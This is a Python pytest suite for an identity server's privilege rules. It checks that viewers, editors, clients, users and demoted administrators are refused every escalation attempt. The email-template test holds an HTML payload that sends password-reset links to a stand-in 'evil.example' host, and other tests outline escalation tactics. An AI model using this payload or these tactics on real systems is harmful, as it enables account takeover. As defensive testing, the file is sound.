"""Nobody does more than they may: every way up that an administrator, a client or a person could try."""

import asyncio
from typing import Any
from urllib.parse import quote

import pytest

from keystead.app import SystemEntropy
from keystead.db import tables
from keystead.rules.authority import CURRENT_USER_SCOPES, MANAGEMENT_SCOPES, Role, scopes_of
from owners import (
    AUDIENCE,
    COMMAND_LINE,
    Owner,
    call,
    confirmed,
    first_owner,
    follow,
    logged_in,
    path_of,
    redeem,
    request_of,
)
from visitor import Visitor, exchange
from world import PASSWORD, PROMISES, PUBLIC_URL, World

EDITORS_NEVER = (
    ("GET", "/keystead/administrators"),
    ("POST", "/keystead/administrators"),
    ("PATCH", "/keystead/administrators/x"),
    ("DELETE", "/keystead/administrators/x"),
    ("GET", "/keys/signing"),
    ("POST", "/keys/signing/rotate"),
    ("PUT", "/keys/signing/x/revoke"),
    ("POST", "/clients/x/rotate-secret"),
    ("POST", "/clients/x/credentials"),
    ("POST", "/emails/provider"),
    ("PATCH", "/emails/provider"),
)


BY_LINK = "/api/v2/keystead/user-exports/{id}"
"""What no token opens, but the link that the job of an export showed."""


def operations() -> list[tuple[str, str, set[str]]]:
    """Return every call of the Management API, with the scopes of which one is needed."""
    return [
        (
            method.upper(),
            path.removeprefix("/api/v2"),
            {each for one in operation["security"] for each in one["management"]},
        )
        for path, methods in PROMISES.document["paths"].items()
        for method, operation in methods.items()
        if path.startswith("/api/v2/") and path != BY_LINK
    ]


def about_nobody(path: str) -> str:
    """Return a path with something for each of its parts."""
    return path.replace("{", "no-").replace("}", "")


@pytest.mark.parametrize("installation", ["sqlite"], indirect=True)
async def test_a_viewer_changes_nothing(world: World) -> None:
    root = await first_owner(world)
    viewer = await root.invites("viewer@example.com", "viewer")
    reads_by_post = {("POST", "/connections/{id}/passkey-policy/preview"), ("POST", "/jobs/users-exports")}
    seen = 0
    for method, path, _ in operations():
        if method == "GET" or (method, path) in reads_by_post:
            continue
        world.clock.advance(seconds=1)
        answer = await viewer.manage(method, about_nobody(path), {} if method != "DELETE" else None)
        assert (answer.status_code, answer.json()["errorCode"]) == (403, "insufficient_scope"), (method, path)
        seen += 1
    assert seen > 40


@pytest.mark.parametrize("installation", ["sqlite"], indirect=True)
async def test_an_editor_reaches_no_keys_and_no_administrators(world: World) -> None:
    root = await first_owner(world)
    editor = await root.invites("editor@example.com", "editor")
    for method, path in EDITORS_NEVER:
        answer = await editor.manage(method, path, {} if method not in ("GET", "DELETE") else None)
        assert (answer.status_code, answer.json()["errorCode"]) == (403, "insufficient_scope"), (method, path)
    for noun in (
        "administrators",
        "signing_keys",
        "client_keys",
        "client_credentials",
        "backups",
        "user_archives",
        "user_idp_tokens",
    ):
        assert not [scope for scope in scopes_of("editor") | scopes_of("viewer") if scope.endswith(f":{noun}")]


async def test_an_editor_gets_no_more_by_a_client_of_their_own(world: World) -> None:
    root = await first_owner(world)
    editor = await root.invites("editor@example.com", "editor")
    made = (await editor.manage("POST", "/clients", {"name": "Mine", "app_type": "non_interactive"})).json()
    wanted = {"client_id": made["client_id"], "audience": AUDIENCE}
    for more in ({"scope": ["create:administrators"]}, {"scope": [], "allow_all_scopes": True}):
        answer = await editor.manage("POST", "/client-grants", wanted | more)
        assert (answer.status_code, answer.json()["errorCode"]) == (403, "insufficient_scope")
    management = world.first["clients"]["management"]["client_id"]
    changes: list[dict[str, Any]] = [
        {"token_endpoint_auth_method": "none"},
        {"client_authentication_methods": {"private_key_jwt": {"credentials": []}}},
    ]
    for change in changes:
        await editor.manage("PATCH", f"/clients/{management}", change)
    body = {"grant_type": "client_credentials", "client_id": management, "audience": AUDIENCE}
    assert (await world.client.post("/oauth/token", json=body)).status_code in (401, 403)


async def test_an_editor_reads_no_mail_of_an_owners(world: World) -> None:
    """Neither by a template nor by another mail server: links to the owners' passwords go through both."""
    root = await first_owner(world)
    editor = await root.invites("editor@example.com", "editor")
    body = "<img src='https://evil.example/?{{ url }}'>"
    about = {"from": "a@example.com", "subject": "x", "syntax": "liquid", "enabled": True}
    for template in ("reset_email", "reset_email_by_code", "verify_email"):
        answer = await editor.manage("POST", "/email-templates", {"template": template, "body": body} | about)
        assert answer.status_code == 200, answer.text
    asked = {"client_id": COMMAND_LINE, "connection": "Administrators", "email": "root@example.com"}
    assert (await world.client.post("/dbconnections/change_password", json=asked)).status_code == 200
    letter = next(each for each in await world.letters() if each.to == "root@example.com")
    assert "evil.example" not in letter.html
    assert "/u/reset-password?ticket=" in letter.text
    assert (await editor.manage("PATCH", "/emails/provider", {"enabled": False})).status_code == 403


async def test_a_client_makes_no_administrator_that_holds_more_than_itself(world: World) -> None:
    root = await first_owner(world)
    viewer = await root.invites("viewer@example.com", "viewer")
    path, administers = "/keystead/administrators", "create:administrators update:administrators"
    nothing: frozenset[str] = frozenset()
    roles: list[tuple[Role, frozenset[str]]] = [
        ("owner", scopes_of("editor")),
        ("editor", scopes_of("viewer")),
        ("viewer", nothing),
    ]
    for role, held in roles:
        scope = " ".join((*sorted(held), administers))
        world.forget_tokens()
        for method, where, body in (
            ("POST", path, {"email": "new@example.com", "role": role}),
            ("PATCH", path_of(viewer), {"role": role}),
        ):
            if role == "viewer" and method == "PATCH":
                continue  # that is what they are
            answer = await world.manage(method, where, body, scope=scope)
            assert (answer.status_code, answer.json()["errorCode"]) == (403, "insufficient_scope"), (role, method)
            missing = answer.json()["message"].removeprefix("Insufficient scope, expected any of: ").split(",")
            assert set(missing) == scopes_of(role) - held - set(administers.split())
    await root.patches(viewer, blocked=True)
    lifted = await world.manage("PATCH", path_of(viewer), {"blocked": False}, scope=administers)
    assert lifted.status_code == 403
    assert await world.count(tables.Administrator) == 2


async def test_a_persons_token_opens_no_route_but_their_own(world: World) -> None:
    await world.person()
    scope = " ".join(("openid", *CURRENT_USER_SCOPES))
    token = (await world.tokens(audience=AUDIENCE, scope=scope))["access_token"]
    seen = 0
    for method, path, needed in operations():
        if needed & set(CURRENT_USER_SCOPES):
            continue
        world.clock.advance(seconds=1)
        answer = await call(world, token, method, about_nobody(path), {} if method not in ("GET", "DELETE") else None)
        assert (answer.status_code, answer.json()["errorCode"]) == (403, "insufficient_scope"), (method, path)
        seen += 1
    assert seen > 80


async def test_an_ordinary_client_gets_no_scope_of_an_administrators(world: World) -> None:
    await world.person()
    visitor = Visitor.of(world)
    landed = await visitor.authorize(audience=AUDIENCE, scope=" ".join(("openid", *MANAGEMENT_SCOPES)))
    landed = await visitor.log_in(landed)
    answer = (await exchange(world, landed.answer["code"])).json()
    assert answer["scope"] == "openid"
    assert (await call(world, answer["access_token"], "GET", "/users")).status_code == 403
    for granted in (await world.tokens(audience=AUDIENCE, scope=" ".join(MANAGEMENT_SCOPES)),):
        assert granted["scope"] == ""


async def test_people_do_not_come_in_by_our_own_clients(world: World) -> None:
    await first_owner(world)
    await world.person("ann@example.com")
    visitor = Visitor.of(world)
    assert "code" in (await visitor.log_in(await visitor.authorize())).answer  # there is a session of hers
    landed = await visitor.authorize(request_of())
    assert landed.path.startswith("/u/login")
    landed = await visitor.send(landed.form("/login/identifier"), username="ann@example.com")
    landed = await visitor.send(landed.form("/login/password"), password=PASSWORD)
    assert landed.path == "/u/login/password"
    named = await visitor.authorize(request_of(connection=world.connection))
    assert named.answer["error"] == "invalid_request"
    silent = await visitor.authorize(request_of(prompt="none"))
    assert silent.answer["error"] == "login_required"
    for grant in ("password", "http://auth0.com/oauth/grant-type/password-realm"):
        body = {"grant_type": grant, "client_id": COMMAND_LINE, "username": "root@example.com", "password": PASSWORD}
        answer = await world.client.post("/oauth/token", json=body | {"realm": "Administrators", "audience": AUDIENCE})
        assert (answer.status_code, answer.json()["error"]) == (403, "unauthorized_client")


async def test_nobody_signs_up_as_an_administrator(world: World) -> None:
    body = {
        "client_id": COMMAND_LINE,
        "connection": "Administrators",
        "email": "evil@example.com",
        "password": PASSWORD,
    }
    answer = await world.client.post("/dbconnections/signup", json=body)
    assert answer.json() == {"error": "public signup is disabled"}
    begun = {"client_id": COMMAND_LINE, "realm": "Administrators", "user_profile": {"email": "evil@example.com"}}
    assert (await world.client.post("/passkey/register", json=begun)).status_code >= 400
    landed = await Visitor.of(world).authorize(request_of(screen_hint="signup"))
    assert not [form for form in landed.forms() if "/signup/" in form.action]
    assert (await world.signup("evil@example.com", connection="Administrators")).status_code == 400
    assert await world.count(tables.Account) == 0


async def test_administrators_do_not_come_in_by_other_clients(world: World) -> None:
    root = await first_owner(world)
    assert root.visitor is not None
    landed = await root.visitor.authorize()
    assert landed.path.startswith("/u/login")
    assert (await root.visitor.authorize(prompt="none")).answer["error"] == "login_required"
    assert (await root.visitor.authorize(connection="Administrators")).answer["error"] == "invalid_request"
    assert (await world.login("root@example.com")).status_code == 403
    realm = {"grant_type": "http://auth0.com/oauth/grant-type/password-realm", "realm": "Administrators"}
    assert (await world.login("root@example.com", **realm)).status_code == 400


async def test_a_token_of_a_demoted_administrator_gives_nothing_away(world: World) -> None:
    root = await first_owner(world)
    fallen = await root.invites("fallen@example.com", "owner")
    assert (await root.patches(fallen, role="editor")).status_code == 200
    for answer in (
        await fallen.patches(fallen, role="owner"),
        await fallen.deletes(root),
        await fallen.manage("POST", "/keystead/administrators", {"email": "evil@example.com", "role": "owner"}),
    ):
        assert (answer.status_code, answer.json()["errorCode"]) == (403, "insufficient_scope")
    again = await logged_in(world, "fallen@example.com", scope=f"openid {' '.join(MANAGEMENT_SCOPES)}")
    assert again.scope == {"openid", *scopes_of("editor")}


async def test_a_demotion_during_a_login_counts(world: World) -> None:
    root = await first_owner(world)
    fallen = await root.invites("fallen@example.com", "owner")
    assert fallen.visitor is not None
    landed = await confirmed(fallen.visitor, await fallen.visitor.authorize(request_of()))
    await root.patches(fallen, role="viewer")
    token = await redeemed(world, landed.answer["code"])
    assert set(token["scope"].split()) & set(MANAGEMENT_SCOPES) == scopes_of("viewer")
    landed = await confirmed(fallen.visitor, await fallen.visitor.authorize(request_of()))
    await root.deletes(fallen)
    assert "access_token" not in await redeemed(world, landed.answer["code"])


async def redeemed(world: World, code: str) -> dict[str, Any]:
    """Exchange a code of the command line, and return the answer, whatever it is."""
    found: dict[str, Any] = (await redeem(world, code)).json()
    return found


async def test_no_account_can_pass_for_a_client(world: World) -> None:
    management = world.first["clients"]["management"]["client_id"]
    body = {"connection": world.connection, "email": "ann@example.com", "password": PASSWORD}
    answer = await world.manage("POST", "/users", body | {"user_id": f"{management}@clients"})
    assert answer.status_code in (201, 400)
    if answer.status_code == 201:
        assert answer.json()["user_id"] == f"auth0|{management}@clients"
        token = (await world.tokens(audience=AUDIENCE, scope="openid read:users read:current_user"))["access_token"]
        assert (await call(world, token, "GET", "/users")).status_code == 403
    machine = await world.management_token("read:users")
    assert (await call(world, machine, "GET", f"/users/{quote(management + '@clients')}")).status_code == 404


async def test_a_role_without_the_account_it_was_given_to_is_none(world: World) -> None:
    """A person of the people's connection in whose name a role was written has none of it."""
    root, ann = await first_owner(world), await world.person()
    token = (await world.tokens(audience=AUDIENCE, scope="openid read:current_user"))["access_token"]
    assert (await root.manage("PATCH", f"/keystead/administrators/{quote(ann)}", {"role": "owner"})).status_code == 404
    assert (await call(world, token, "GET", "/users")).status_code == 403


async def test_two_owners_who_delete_each_other_leave_one(world: World) -> None:
    root = await first_owner(world)
    other = await root.invites("other@example.com", "owner")
    answers = await asyncio.gather(root.deletes(other), other.deletes(root))
    await left_one(world, answers)


@pytest.mark.parametrize("edit", [{"role": "viewer"}, {"blocked": True}, None])
async def test_any_number_at_once_leave_an_owner(world: World, edit: dict[str, Any] | None) -> None:
    root = await first_owner(world)
    owners = [root, *[await root.invites(f"owner{number}@example.com", "owner") for number in range(3)]]
    token = await world.management_token()
    body, method = edit, "PATCH" if edit else "DELETE"
    answers = await asyncio.gather(*(call(world, token, method, path_of(each), body) for each in owners))
    await left_one(world, answers)


async def left_one(world: World, answers: Any) -> None:
    """Hold that somebody was refused, and that one owner is left who can sign in."""
    refused = [answer for answer in answers if answer.status_code not in (200, 204)]
    assert refused
    assert {answer.status_code for answer in refused} <= {400, 401, 403}
    roles = {row["user_id"] for row in await world.rows(tables.Administrator) if row["role"] == "owner"}
    working = [row for row in await world.rows(tables.Account) if row["user_id"] in roles and not row["blocked"]]
    assert len(working) == 1


async def test_a_link_that_two_follow_sets_one_password(world: World) -> None:
    root = await first_owner(world)
    invited = await root.manage("POST", "/keystead/administrators", {"email": "ann@example.com", "role": "owner"})
    passwords = [f"correct horse battery {number}" for number in range(4)]
    link = invited.json()["ticket"]
    answers = await asyncio.gather(*(follow(world, link, password=each) for each in passwords))
    assert sorted(answer.status_code for answer in answers) == [200, 400, 400, 400]
    (winner,) = [each for each, answer in zip(passwords, answers, strict=True) if answer.status_code == 200]
    assert (await logged_in(world, "ann@example.com", winner)).user_id


async def test_a_guessed_link_is_counted(world: World) -> None:
    await first_owner(world)
    for _ in range(3):
        answer = await follow(world, f"{PUBLIC_URL}/u/setup?ticket={SystemEntropy().token(32)}", "evil@example.com")
        assert answer.status_code == 400
    assert await world.count(tables.Administrator) == 1


async def test_a_session_of_a_deleted_administrator_opens_nothing(world: World) -> None:
    root = await first_owner(world)
    gone: Owner = await root.invites("gone@example.com", "owner")
    await root.deletes(gone)
    assert gone.visitor is not None
    assert (await gone.visitor.authorize(request_of(prompt="none"))).answer["error"] == "login_required"
    assert (await gone.manage("GET", "/keystead/administrators")).status_code == 401
    assert (await world.userinfo(gone.token)).status_code == 401
